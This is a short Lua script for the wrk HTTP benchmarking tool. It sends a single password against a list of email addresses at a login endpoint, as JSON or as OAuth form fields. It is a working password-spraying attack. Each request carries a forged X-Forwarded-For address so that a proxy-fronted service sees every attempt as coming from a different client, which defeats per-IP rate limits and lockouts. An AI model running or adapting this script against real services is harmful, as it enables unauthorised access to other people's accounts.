-- POST an address and a password, of each user in turn: FILE PASSWORD FORM, addresses a line each;
-- FORM is "json", or "form" for RFC 6749's fields. Behind a proxy each comes from an address of its own.

require "report"

local requests, turn = {}, 0

function init(arguments)
  local file, password, form = unpack(arguments)
  for email in io.lines(file) do
    local body, content_type
    if form == "json" then
      body = '{"email":"' .. email .. '","password":"' .. password .. '"}'
      content_type = "application/json"
    else
      body = "username=" .. email:gsub("@", "%%40") .. "&password=" .. password:gsub(" ", "+")
      content_type = "application/x-www-form-urlencoded"
    end
    local address = "10.0." .. math.floor(#requests / 256) .. "." .. #requests % 256
    local headers = {["Content-Type"] = content_type, ["X-Forwarded-For"] = address}
    requests[#requests + 1] = wrk.format("POST", nil, headers, body)
  end
end

function request()
  turn = turn % #requests + 1
  return requests[turn]
end
